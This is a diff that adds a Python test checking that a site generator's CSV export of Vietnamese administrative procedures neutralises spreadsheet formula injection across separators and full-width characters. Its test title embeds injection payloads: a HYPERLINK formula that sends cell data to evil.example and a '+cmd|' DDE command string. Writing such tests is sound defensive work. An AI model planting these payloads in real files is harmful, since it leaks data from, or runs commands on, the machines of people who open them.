@@ -218,6 +218,25 @@ def test_csv_cells_never_start_a_formula(make_project: MakeProject) -> None:
     assert row[3] == "'@SUM(1+1)"
 
 
+FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+
+
+def test_csv_cells_start_no_formula_in_any_locale(make_project: MakeProject) -> None:
+    """Vietnamese Windows splits CSV on ";": a formula after a ";" inside a cell must not start a cell there."""
+    title = 'Tách hộ;=HYPERLINK(\\"https://evil.example/?\\"&A1);\\t+cmd|x!A0 | -1+1, ＝1+1; \\"@SUM(1)'
+    record = ABOLISHED.replace("title: Cấp sổ hộ khẩu", f'title: "{title}"')
+    _, _, tree = _build(make_project({"procedures/cap-so-ho-khau.yaml": record}))
+    raw = _text(tree, "du-lieu/thu-tuc.csv").removeprefix("\ufeff")
+    for line in raw.split("\r\n")[:-1]:
+        assert line.startswith('"') and line.endswith('"'), line  # every cell quoted
+    for separator in (",", ";", "\t", "|"):
+        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=separator):
+            for cell in row:
+                assert not cell.lstrip(' "').startswith(FORMULAS), (separator, cell)
+    row = next(row for row in _csv_rows(tree) if row[0] == "1.000888")
+    assert row[1].startswith("Tách hộ;'=HYPERLINK(")  # shown as typed, but for the apostrophes
+
+
 # -- schema.org in the page --------------------------------------------------------------
 
 
